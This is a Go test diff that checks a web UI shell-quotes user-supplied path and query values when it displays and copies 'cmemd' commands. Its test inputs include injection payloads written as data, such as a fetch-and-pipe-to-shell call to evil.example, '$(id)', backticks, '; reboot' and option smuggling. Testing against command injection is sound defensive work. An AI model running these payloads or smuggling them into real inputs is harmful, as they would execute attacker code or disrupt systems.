@@ -407,3 +407,24 @@ func TestStates(t *testing.T) {
 	must(t, p.Eval(t.Context(), `document.querySelector("nav a[href='/ui/']").click()`, nil))
 	w.shows(p, "a newer row")
 }
+
+// TestCommandsAreQuoted: what others named is one word of a command that is copied, and copied as it is shown.
+func TestCommandsAreQuoted(t *testing.T) {
+	w := newWorld(t)
+	p := w.page("/ui/")
+	for path, want := range map[string]string{
+		"/ui/memory/m1;curl%20evil.example%7Csh":  `cmemd why 'm1;curl evil.example|sh'`,
+		"/ui/memory/m1?as_of=$(id)%20'x":          `cmemd why --at '$(id) '\''x' m1`,
+		"/ui/memory/--help":                       `cmemd why -- --help`,
+		"/ui/memory?q=--json":                     `cmemd search -- --json`,
+		"/ui/memory?q=a%0Ab%E2%80%AE%5C'":         `cmemd search $'a\nb\u202e\\\''`,
+		"/ui/losses?reason=a%60id%60":             "cmemd outcomes --outcome dropped --reason 'a`id`'",
+		"/ui/replay?days=0&session=x%3B%20reboot": `cmemd replay --policy all --session 'x; reboot'`,
+	} {
+		must(t, p.Go(t.Context(), "http://"+w.addr+path))
+		w.sees(p, `document.querySelector(".same .command")?.textContent === `+js(want))
+		must(t, p.Eval(t.Context(), `(() => { navigator.clipboard.writeText = async (text) => { window.copied = text; };
+			document.querySelector(".same .command + button").click(); })()`, nil))
+		w.sees(p, `window.copied === `+js(want))
+	}
+}
